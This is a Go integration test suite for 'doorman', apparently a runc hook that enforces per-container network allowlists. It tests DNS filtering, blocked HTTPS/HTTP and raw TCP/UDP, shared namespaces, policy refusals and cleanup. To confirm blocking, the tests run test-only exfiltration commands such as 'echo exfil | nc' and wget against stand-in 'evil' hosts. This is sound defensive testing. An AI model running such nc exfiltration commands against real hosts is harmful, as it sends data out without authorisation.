package integration

import (
	"bytes"
	"encoding/json"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	specs "github.com/opencontainers/runtime-spec/specs-go"

	"github.com/doorman-net/doorman/enforce"
	"github.com/doorman-net/doorman/hook"
	"github.com/doorman-net/doorman/integration/testnet"
)

// TestHookRunc runs a real runc container with doorman's hooks in its
// config.json, joined to a wired network namespace, and checks from inside
// it (runc exec of the probe and of busybox) that only the allowed name gets
// through; then that `runc delete` (poststop) leaves nothing behind.
func TestHookRunc(t *testing.T) {
	begin := time.Now()
	e := newRuncEnv(t)
	sbx := e.net.NewSandbox(t)
	c := e.newContainer("main", withNetNS(sbx.Path()), allowAPI())
	t.Logf("setup: %v", time.Since(begin).Round(time.Millisecond))

	step := time.Now()
	e.runDetached(c)
	s := e.state(c)
	t.Logf("runc run --detach: %v", time.Since(step).Round(time.Millisecond))
	// The spec's netns path, not /proc/<pid>/ns/net: poststop must still
	// find the namespace when the container's process is gone.
	if s.Runtime != "hook" || s.ID != c.id || s.NetNS != sbx.Path() || s.Mode != "allowlist" {
		t.Errorf("state: runtime %q id %q netns %q mode %q; want hook %q %q allowlist", s.Runtime, s.ID, s.NetNS, s.Mode, c.id, sbx.Path())
	}
	// runc spec's default capabilities hold neither CAP_NET_RAW nor
	// CAP_NET_ADMIN; by default the hook adds the DNS filter and, on the
	// sandbox's veth (its peer in runc's namespace), the host-side layer.
	if s.Label != "full" || !s.DNSFilter || !s.HostLayer {
		t.Errorf("label %q, DNS filter %v, host-side layer %v; want full with both layers", s.Label, s.DNSFilter, s.HostLayer)
	}
	if want := []netip.Addr{e.net.DNS, e.net.DNS6}; !slices.Equal(s.Resolvers, want) {
		t.Errorf("resolvers %v, want %v (the rootfs's resolv.conf)", s.Resolvers, want)
	}
	if pids := proxiesFor(c.id); !slices.Equal(pids, []int{s.PID}) {
		t.Fatalf("proxy processes for %s: %v, want the recorded pid %d", c.id, pids, s.PID)
	}
	if ok, err := enforce.Present(sbx.Path()); !ok || err != nil {
		t.Fatalf("no doorman table in the container's netns: %v", err)
	}

	step = time.Now()
	probe := func(args ...string) runcResult {
		t.Helper()
		return e.exec(c, slices.Concat([]string{"/probe"}, args)...)
	}
	// HTTPS and HTTP, allowed and denied.
	if r := probe("get", "https://"+apiName+"/runc", "--ca", "/ca.pem"); r.exit != 0 || !strings.HasPrefix(r.stdout, "status: 200\n"+apiName+" ") {
		t.Errorf("allowed HTTPS: %v", r)
	}
	// A denied name does not resolve: the DNS filter refuses it (Go
	// reports REFUSED as "server misbehaving"). Reached at its address,
	// it gets the TLS alert or the 403.
	if r := probe("get", "https://"+evilName+"/", "--ca", "/ca.pem"); !probeRan(r, 1) || !strings.Contains(r.stderr, "lookup "+evilName) || !strings.Contains(r.stderr, "server misbehaving") {
		t.Errorf("denied name: want the probe to fail resolving it, got %v", r)
	}
	evilAt := "--resolve=" + evilName + ":" + evilAddr4.String()
	if r := probe("get", "https://"+evilName+"/", "--ca", "/ca.pem", evilAt); r.exit != 3 || !strings.Contains(r.stderr, "access denied") {
		t.Errorf("denied HTTPS: want the probe's exit 3 with a TLS access_denied alert, got %v", r)
	}
	if r := probe("get", "http://"+apiName+"/plain"); r.exit != 0 || !strings.Contains(r.stdout, "status: 200\n"+apiName+" ") || !strings.Contains(r.stdout, "GET /plain") {
		t.Errorf("allowed HTTP: %v", r)
	}
	if r := probe("get", "http://"+evilName+"/", evilAt); r.exit != 0 || !strings.HasPrefix(r.stdout, "status: 403\n") ||
		!strings.Contains(r.stdout, evilName) || !strings.Contains(r.stdout, c.id) {
		t.Errorf("denied HTTP: want a 403 naming %s and %s, got %v", evilName, c.id, r)
	}
	// Another client: busybox's wget, resolving through the rootfs's
	// resolv.conf with libc's resolver.
	if r := e.exec(c, "/bin/wget", "-q", "-O", "-", "http://"+apiName+"/busybox"); r.exit != 0 || !strings.Contains(r.stdout, "GET /busybox") {
		t.Errorf("allowed HTTP with busybox wget: %v", r)
	}
	if r := e.exec(c, "/bin/wget", "-q", "-O", "-", "http://"+evilName+"/busybox"); r.exit == 0 || !strings.Contains(r.stderr, "bad address '"+evilName+"'") {
		t.Errorf("denied name with busybox wget: want it not to resolve, got %v", r)
	}
	if r := e.exec(c, "/bin/wget", "-q", "-O", "-", "--header", "Host: "+evilName, "http://"+evilAddr4.String()+"/busybox"); r.exit == 0 || !strings.Contains(r.stderr, "403") {
		t.Errorf("denied HTTP with busybox wget (at the address, Host %s): want a 403, got %v", evilName, r)
	}
	if n := e.evil.Requests(); n != 0 {
		t.Errorf("evil host served %d requests", n)
	}

	// Raw TCP with busybox nc: a hand-written HTTP request to the allowed
	// name gets through (so nc works here) ...
	if r := e.exec(c, "/bin/sh", "-c", `printf 'GET /nc HTTP/1.0\r\nHost: `+apiName+`\r\n\r\n' | nc -w 3 `+apiAddr4.String()+` 80`); r.exit != 0 || !strings.Contains(r.stdout, "GET /nc") {
		t.Errorf("HTTP by hand with busybox nc to %s: %v", apiName, r)
	}
	// ... and raw TCP to hosts that are not allowed gets nothing through.
	for _, dst := range []struct {
		host *testnet.Host
		addr netip.Addr
		port uint16
	}{
		{e.evil, evilAddr4, testnet.PortRecorder},
		{e.evil, evilAddr6, testnet.PortPostgres},
		{e.other, otherAddr, testnet.PortSSH},
	} {
		ap := netip.AddrPortFrom(dst.addr, dst.port).String()
		if r := probe("tcp", ap, "--send", "hello\r\n", "--timeout", "3s"); !probeRan(r, 4, 5) {
			t.Errorf("TCP to %s: want no reply, got %v", ap, r)
		}
		if r := e.exec(c, "/bin/sh", "-c", "echo exfil | nc -w 2 "+dst.addr.String()+" "+strconv.Itoa(int(dst.port))); r.stdout != "" || r.stderr != "" && !strings.Contains(r.stderr, "nc: ") {
			t.Errorf("busybox nc to %s: %v", ap, r)
		}
		if n := dst.host.Received(int(dst.port)); n != 0 {
			t.Errorf("%s received %d bytes on port %d", dst.host.Name(), n, dst.port)
		}
	}
	// UDP other than DNS to the resolvers: nothing arrives.
	if r := probe("udp", netip.AddrPortFrom(evilAddr4, testnet.PortUDPEcho).String()); !probeRan(r, 1, 4, 5) {
		t.Errorf("UDP to %s: want no answer, got %v", evilName, r)
	}
	if n := e.evil.UDPDatagrams(testnet.PortUDPEcho); n != 0 {
		t.Errorf("%d UDP datagrams arrived", n)
	}
	// DNS: the resolvers answer (through the filter) for the allowed
	// name, REFUSED for the denied one, NXDOMAIN for the allowed name
	// with a label added; the rogue server never sees a query.
	for _, srv := range []netip.Addr{e.net.DNS, e.net.DNS6} {
		if r := probe("dns", srv.String(), apiName); r.exit != 0 || !strings.Contains(r.stdout, "rcode: NOERROR") || !strings.Contains(r.stdout, apiAddr4.String()) {
			t.Errorf("DNS to the resolver %v: %v", srv, r)
		}
		if r := probe("dns", srv.String(), evilName); !strings.Contains(r.stdout, "rcode: REFUSED") || strings.Contains(r.stdout, evilAddr4.String()) {
			t.Errorf("DNS to the resolver %v for %s: want REFUSED, got %v", srv, evilName, r)
		}
		if r := probe("dns", srv.String(), apiName+".corp"); !strings.Contains(r.stdout, "rcode: NXDOMAIN") {
			t.Errorf("DNS to the resolver %v for %s.corp: want NXDOMAIN, got %v", srv, apiName, r)
		}
	}
	rogue := e.net.QueriesSeen(e.net.RogueDNS)
	if r := probe("dns", e.net.RogueDNS.String(), apiName); !probeRan(r, 1, 4, 5) {
		t.Errorf("DNS to %v, not a resolver: want no answer, got %v", e.net.RogueDNS, r)
	}
	if n := e.net.QueriesSeen(e.net.RogueDNS) - rogue; n != 0 {
		t.Errorf("the rogue DNS server saw %d queries", n)
	}

	// The decision log, under the container id.
	e.waitDecision(c.ctr(), decided(apiName, "allow"))
	e.waitDecision(c.ctr(), decided(evilName, "deny"))
	e.waitDNSDecision(c.ctr(), apiName, "allow")
	e.waitDNSDecision(c.ctr(), evilName, "deny")
	t.Logf("checks by runc exec: %v", time.Since(step).Round(time.Millisecond))

	// runc delete: poststop stops the proxy, removes the table from the
	// namespace (which lives on) and the state.
	step = time.Now()
	e.delete(c)
	waitGone(t, s.PID)
	e.assertNoSandbox(c)
	if ok, err := enforce.Present(sbx.Path()); ok || err != nil {
		t.Errorf("doorman's table is left in %s after runc delete (%v)", sbx.Path(), err)
	}
	if e.exists(c) {
		t.Error("runc still knows the container after runc delete")
	}
	if p := e.cgroupLeft(c); p != "" {
		t.Errorf("cgroup %s left after runc delete", p)
	}
	if tables := hostTables(t, e.cniEnv); len(tables) != 0 {
		t.Errorf("host-side tables left after runc delete: %v", tables)
	}
	t.Logf("runc delete: %v", time.Since(step).Round(time.Millisecond))
}

// TestHookRuncPolicies creates (without starting) containers whose spec or
// policy varies, and checks what the createRuntime hook recorded: mode,
// proxy, table, and the label it computed from the capabilities and the
// layers. The DNS filter is on by default; the host-side layer is too, but
// only a namespace wired by a veth to runc's has an interface for it:
// without one the label keeps what the in-namespace rules leave open.
func TestHookRuncPolicies(t *testing.T) {
	e := newRuncEnv(t)
	cases := []struct {
		name      string
		opts      []specOption
		wired     bool   // a namespace with a veth to runc's, else an empty one
		hostLayer bool   // the host-side layer is installed (on the veth)
		policy    string // the default policy file, if any
		mode      string
		label     string
		withProxy bool
	}{
		{name: "net raw", opts: []specOption{allowAPI(), withCaps("CAP_NET_RAW")},
			mode: "allowlist", label: "partial (container holds CAP_NET_RAW)", withProxy: true},
		{name: "net admin", opts: []specOption{allowAPI(), withCaps("CAP_NET_RAW", "CAP_NET_ADMIN")},
			mode: "allowlist", label: "partial (container holds CAP_NET_ADMIN)", withProxy: true},
		// On a veth, the host-side layer holds what the container could
		// undo inside its namespace.
		{name: "net admin, wired", opts: []specOption{allowAPI(), withCaps("CAP_NET_RAW", "CAP_NET_ADMIN")}, wired: true, hostLayer: true,
			mode: "allowlist", label: "full", withProxy: true},
		// Both layers opted out: the label names every gap.
		{name: "net raw, layers opted out", wired: true, opts: []specOption{allowAPI(), withCaps("CAP_NET_RAW"),
			withHookFlags("--dns-filter=false", "--host-layer=false")},
			mode: "allowlist", label: withDNSGap("partial (container holds CAP_NET_RAW)"), withProxy: true},
		{name: "mode none", opts: []specOption{withAnnotations(hook.AnnotationMode, "none")},
			mode: "none", label: "full"},
		// The state records what enforcement covers whatever the mode
		// (the CLI shows n/a while the mode is open).
		{name: "mode open", opts: []specOption{withAnnotations(hook.AnnotationMode, "open")},
			mode: "open", label: "full", withProxy: true},
		{name: "default policy file", policy: "mode: allowlist\n" + otherName + "\n",
			mode: "allowlist", label: "full", withProxy: true},
		// Docker 20.10 runs its hooks at prestart: the hook acts there too.
		{name: "prestart stage", opts: []specOption{allowAPI(), func(s *specs.Spec) {
			h := s.Hooks.CreateRuntime[0]
			h.Args = slices.Concat(h.Args[:len(h.Args)-1], []string{hook.StagePrestart})
			s.Hooks.Prestart, s.Hooks.CreateRuntime = []specs.Hook{h}, nil
		}}, mode: "allowlist", label: "full", withProxy: true},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if tc.policy != "" {
				if err := os.WriteFile(e.defaultPolicyFile(), []byte(tc.policy), 0o644); err != nil {
					t.Fatal(err)
				}
				defer os.Remove(e.defaultPolicyFile())
			}
			var ns *testnet.Netns
			if tc.wired {
				ns = e.net.NewSandbox(t).Netns
			} else {
				ns = e.net.NewNetns(t, "pol"+strconv.Itoa(int(e.next.Load())+1))
			}
			c := e.newContainer("pol", slices.Concat([]specOption{withNetNS(ns.Path())}, tc.opts)...)
			if r := e.create(c); r.exit != 0 {
				t.Fatalf("create: %v", r)
			}
			s := e.state(c)
			if string(s.Mode) != tc.mode || s.Label != tc.label || s.NetNS != ns.Path() {
				t.Errorf("state: mode %q label %q netns %q; want %q %q %q", s.Mode, s.Label, s.NetNS, tc.mode, tc.label, ns.Path())
			}
			if s.HostLayer != tc.hostLayer {
				t.Errorf("host-side layer %v, want %v", s.HostLayer, tc.hostLayer)
			}
			if pids := proxiesFor(c.id); tc.withProxy != (len(pids) == 1 && pids[0] == s.PID) {
				t.Errorf("proxy processes %v, recorded pid %d; want a proxy: %v", pids, s.PID, tc.withProxy)
			}
			if ok, err := enforce.Present(ns.Path()); !ok || err != nil {
				t.Errorf("no table in the container's netns (%v)", err)
			}
			e.delete(c)
			e.assertNoSandbox(c)
			if tables := hostTables(t, e.cniEnv); len(tables) != 0 {
				t.Errorf("host-side tables left after runc delete: %v", tables)
			}
		})
	}

	// Open mode may share the runtime's namespace: nothing is enforced,
	// nothing recorded, and the container is created.
	t.Run("open, host network", func(t *testing.T) {
		c := e.newContainer("open", withoutNetNS(), withAnnotations(hook.AnnotationMode, "open"))
		if r := e.create(c); r.exit != 0 {
			t.Fatalf("create: %v", r)
		}
		e.assertNoSandbox(c)
		if ok, err := enforce.Present(e.net.HostPath()); ok || err != nil {
			t.Errorf("a table in the host namespace (%v)", err)
		}
		e.delete(c)
	})
}

// TestHookRuncRefuses checks that every bad input makes runc refuse the
// container with doorman's reason in its error, and that nothing is left:
// no container, no state, no proxy, no table, no cgroup.
func TestHookRuncRefuses(t *testing.T) {
	e := newRuncEnv(t)
	cases := []struct {
		name    string
		opts    []specOption
		netns   string // "new" (a fresh namespace), "host", "missing" or "none"
		want    []string
		doorman bool // the refusal is doorman's (not runc's own)
	}{
		{name: "malformed allowed-hosts", netns: "new", doorman: true,
			opts: []specOption{withAnnotations(hook.AnnotationMode, "allowlist", hook.AnnotationAllowedHosts, apiName+",a*b.com")},
			want: []string{hook.AnnotationAllowedHosts, `\"a*b.com\"`}},
		{name: "unknown mode", netns: "new", doorman: true,
			opts: []specOption{withAnnotations(hook.AnnotationMode, "permissive", hook.AnnotationAllowedHosts, apiName)},
			want: []string{hook.AnnotationMode, `\"permissive\"`}},
		{name: "bare star", netns: "new", doorman: true,
			opts: []specOption{withAnnotations(hook.AnnotationAllowedHosts, "*")},
			want: []string{hook.AnnotationAllowedHosts}},
		{name: "no policy", netns: "new", doorman: true,
			want: []string{"no doorman policy", hook.AnnotationMode, hook.AnnotationAllowedHosts}},
		{name: "host network", netns: "none", doorman: true, opts: []specOption{allowAPI()},
			want: []string{"shares the host's network namespace", hook.AnnotationMode + "=open"}},
		{name: "host network, mode none", netns: "none", doorman: true, opts: []specOption{withAnnotations(hook.AnnotationMode, "none")},
			want: []string{"shares the host's network namespace"}},
		{name: "the runtime's netns by path", netns: "host", doorman: true, opts: []specOption{allowAPI()},
			want: []string{"shares the host's network namespace"}},
		// runc itself refuses a netns path that is not there, before any
		// hook: still nothing may be left.
		{name: "missing netns path", netns: "missing", opts: []specOption{allowAPI()},
			want: []string{"dm-missing-"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			var opts []specOption
			switch tc.netns {
			case "new":
				opts = append(opts, withNetNS(e.net.NewNetns(t, "ref"+strconv.Itoa(int(e.next.Load())+1)).Path()))
			case "host":
				opts = append(opts, withNetNS(e.net.HostPath()))
			case "missing":
				opts = append(opts, withNetNS("/var/run/netns/dm-missing-"+e.suffix))
			case "none":
				opts = append(opts, withoutNetNS())
			}
			c := e.newContainer("ref", append(opts, tc.opts...)...)
			r := e.create(c)
			if r.exit == 0 {
				t.Fatalf("runc create succeeded: %v", r)
			}
			if tc.doorman {
				tc.want = append(tc.want, "error running hook", "doorman: container "+c.id+" not started")
			}
			for _, w := range tc.want {
				if !strings.Contains(r.stderr, w) {
					t.Errorf("runc's error does not mention %q: %v", w, r)
				}
			}
			if e.exists(c) {
				t.Error("runc kept the refused container")
			}
			e.assertNoSandbox(c)
			if ok, err := enforce.Present(e.net.HostPath()); ok || err != nil {
				t.Errorf("a table in the host namespace (%v)", err)
			}
			if p := e.cgroupLeft(c); p != "" {
				t.Errorf("cgroup %s left", p)
			}
		})
	}
}

// TestHookDirect runs `doorman hook` as a runtime would, with state JSON
// runc cannot be made to send: not JSON, a container process that is gone,
// an unknown stage. Each is refused with a reason and leaves nothing.
func TestHookDirect(t *testing.T) {
	e := newCNIEnv(t)
	suffix := strings.TrimPrefix(e.net.HostNS().Name(), "dm-host-")
	rootfs := t.TempDir()
	spec := func(netnsPath string) string {
		bundle := t.TempDir()
		s := specs.Spec{
			Annotations: map[string]string{hook.AnnotationMode: "allowlist", hook.AnnotationAllowedHosts: apiName},
			Root:        &specs.Root{Path: rootfs},
			Linux:       &specs.Linux{Namespaces: []specs.LinuxNamespace{{Type: specs.NetworkNamespace, Path: netnsPath}}},
		}
		data, _ := json.Marshal(&s)
		if err := os.WriteFile(filepath.Join(bundle, "config.json"), data, 0o644); err != nil {
			t.Fatal(err)
		}
		return bundle
	}
	state := func(id string, pid int, bundle string) string {
		data, _ := json.Marshal(specs.State{Version: specs.Version, ID: id, Status: specs.StateCreating, Pid: pid, Bundle: bundle})
		return string(data)
	}
	// A pid that was a process and is no more.
	gone := exec.Command("true")
	if err := gone.Run(); err != nil {
		t.Fatal(err)
	}
	ns := e.net.NewNetns(t, "direct")

	cases := []struct {
		name  string
		args  []string
		stdin string
		exit  int
		want  []string
	}{
		{"not JSON", []string{hook.StageCreateRuntime}, "this is not JSON {", 1, []string{"not the runtime's state JSON"}},
		{"not JSON, prestart", []string{hook.StagePrestart}, "\x00\x01", 1, []string{"not the runtime's state JSON"}},
		{"no id", []string{hook.StageCreateRuntime}, `{"ociVersion": "1.0.2", "bundle": "/"}`, 1, []string{"no id or bundle"}},
		{"process gone", []string{hook.StageCreateRuntime}, state("dm-gone", gone.Process.Pid, spec("")), 1,
			[]string{"dm-gone not started", "/proc/" + strconv.Itoa(gone.Process.Pid) + "/ns/net"}},
		{"process gone, netns by path", []string{hook.StageCreateRuntime}, state("dm-gone2", gone.Process.Pid, spec(ns.Path())), 1,
			[]string{"dm-gone2 not started", "process " + strconv.Itoa(gone.Process.Pid), ns.Path()}},
		{"netns path missing", []string{hook.StageCreateRuntime}, state("dm-nons", 0, spec("/var/run/netns/dm-missing-"+suffix)), 1,
			[]string{"dm-nons not started", "dm-missing-" + suffix}},
		{"unknown stage", []string{"poststart"}, state("dm-stage", 0, spec(ns.Path())), 1, []string{`"poststart"`}},
		{"no stage", nil, "", 2, []string{"usage"}},
		{"poststop never fails", []string{hook.StagePoststop}, "not JSON", 0, []string{"not the runtime's state JSON"}},
	}
	for _, tc := range cases {
		args := slices.Concat([]string{"hook", "--state-dir=" + e.stateDir, "--log-dir=" + e.logDir,
			"--default-policy=" + filepath.Join(rootfs, "no.policy")}, tc.args)
		cmd := exec.Command(doormanBin(), args...)
		cmd.Stdin = strings.NewReader(tc.stdin)
		var stderr bytes.Buffer
		cmd.Stderr = &stderr
		err := cmd.Run()
		exit := 0
		if ee, ok := err.(*exec.ExitError); ok {
			exit = ee.ExitCode()
		} else if err != nil {
			t.Fatalf("%s: %v", tc.name, err)
		}
		if exit != tc.exit {
			t.Errorf("%s: exit %d, want %d; stderr %q", tc.name, exit, tc.exit, stderr.String())
		}
		for _, w := range tc.want {
			if !strings.Contains(stderr.String(), w) {
				t.Errorf("%s: stderr %q does not mention %q", tc.name, stderr.String(), w)
			}
		}
	}
	if ents, _ := os.ReadDir(e.stateDir); len(ents) != 0 {
		t.Errorf("state left by refused containers: %v", ents)
	}
	if ok, err := enforce.Present(ns.Path()); ok || err != nil {
		t.Errorf("a table in %s (%v)", ns.Path(), err)
	}
}

// TestHookRuncSharedNetNS runs containers that join one network namespace,
// as a pod's do: the first container's sandbox holds it; a second with the
// same policy adds nothing (one ruleset, one proxy per namespace) and its
// removal leaves the first's enforcement in place; one with more
// capabilities lowers what the namespace's own rules cover (the host-side
// layer on its veth keeps the label full); one with another policy is
// refused.
func TestHookRuncSharedNetNS(t *testing.T) {
	e := newRuncEnv(t)
	sbx := e.net.NewSandbox(t)
	first := e.newContainer("pod", withNetNS(sbx.Path()), allowAPI())
	second := e.newContainer("pod", withNetNS(sbx.Path()), allowAPI())
	wider := e.newContainer("pod", withNetNS(sbx.Path()),
		withAnnotations(hook.AnnotationMode, "allowlist", hook.AnnotationAllowedHosts, apiName+","+evilName))
	e.runDetached(first)
	s := e.state(first)
	e.runDetached(second)
	if _, err := os.Stat(filepath.Join(e.stateDir, second.id)); !os.IsNotExist(err) {
		t.Errorf("a second sandbox was made for the shared namespace: %v", err)
	}
	if pids := proxiesFor(second.id); len(pids) != 0 {
		t.Errorf("a second proxy serves the shared namespace: %v", pids)
	}
	evilAt := "--resolve=" + evilName + ":" + evilAddr4.String()
	if r := e.exec(second, "/probe", "get", "https://"+evilName+"/", "--ca", "/ca.pem"); !probeRan(r, 1) || !strings.Contains(r.stderr, "lookup "+evilName) {
		t.Errorf("denied name from the second container: want it not to resolve, got %v", r)
	}
	e.waitDNSDecision(first.ctr(), evilName, "deny")
	if r := e.exec(second, "/probe", "get", "https://"+evilName+"/", "--ca", "/ca.pem", evilAt); r.exit != 3 {
		t.Errorf("denied HTTPS from the second container: want exit 3, got %v", r)
	}
	if r := e.exec(second, "/probe", "get", "https://"+apiName+"/", "--ca", "/ca.pem"); r.exit != 0 {
		t.Errorf("allowed HTTPS from the second container: %v", r)
	}

	// A container that holds CAP_NET_RAW joins: what the namespace's own
	// rules cover now holds for all of its containers, and the host-side
	// layer covers it; the proxy stays.
	if s.Label != "full" || s.BaseLabel != "full" || !s.HostLayer {
		t.Errorf("first container: label %q (in-namespace %q), host layer %v; want full, full, true", s.Label, s.BaseLabel, s.HostLayer)
	}
	raw := e.newContainer("pod", withNetNS(sbx.Path()), allowAPI(), withCaps("CAP_NET_RAW"))
	if r := e.create(raw); r.exit != 0 {
		t.Fatalf("create a container with CAP_NET_RAW in the shared namespace: %v", r)
	}
	if now := e.state(first); now.BaseLabel != "partial (container holds CAP_NET_RAW)" || now.Label != "full" || !now.HostLayer || now.PID != s.PID {
		t.Errorf("after a container with CAP_NET_RAW joined: label %q (in-namespace %q), host layer %v, proxy %d; want full (partial (container holds CAP_NET_RAW)), true, %d",
			now.Label, now.BaseLabel, now.HostLayer, now.PID, s.PID)
	}
	e.delete(raw)

	r := e.create(wider)
	if r.exit == 0 || !strings.Contains(r.stderr, first.id) || !strings.Contains(r.stderr, "different policy") {
		t.Errorf("a container with another policy in the shared namespace: want a refusal naming %s, got %v", first.id, r)
	}

	// The second one goes: the first's sandbox still holds the namespace.
	e.delete(second)
	// (Checked where runc ran the hook: the host-side layer is there.)
	if err := e.checkInHost(hook.Key(first.id)); err != nil {
		t.Errorf("after the second container was deleted: %v", err)
	}
	if r := e.exec(first, "/probe", "get", "https://"+evilName+"/", "--ca", "/ca.pem", evilAt); r.exit != 3 {
		t.Errorf("denied HTTPS from the first container after the second was deleted: want exit 3, got %v", r)
	}
	e.delete(first)
	waitGone(t, s.PID)
	e.assertNoSandbox(first)
}
